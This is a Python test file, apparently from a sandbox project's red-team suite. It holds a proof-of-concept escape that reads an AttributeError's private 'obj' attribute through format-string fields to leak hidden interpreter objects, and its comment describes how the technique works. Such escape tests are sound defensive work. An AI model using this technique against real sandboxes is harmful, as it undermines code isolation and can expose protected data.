# mypy: ignore-errors
# Technique: `obj` is private to the plugin's own objects (an `AttributeError` keeps, as
# `obj`, whatever a failed lookup ran on: `typing.Type.nope` fails on the real `type`), but
# a format field named it: `"{0.obj}"` read it natively and handed back its text, and
# public attribute and key chains below it (`{0.obj.modules[os]}` from an error raised on
# `sys`) read hidden objects as text. Found in the sixth red-team pass of the
# in-interpreter layer; was a real in-interpreter escape (hidden objects as text) before
# the fix.
import typing


def attack(secret_path, canary_path):
    out = []
    try:
        typing.Type.nope  # noqa: B018, UP006
    except AttributeError as exc:
        for template in ("{0." + "obj" + "}", "{0." + "obj" + "!r:>20}"):
            try:
                text = template.format(exc)
            except Exception as err:
                out.append(repr(err)[:120])
                continue
            if "class 'type'" in text:
                print("SANDBOX-" + "ESCAPED")
            out.append(text)
    return out
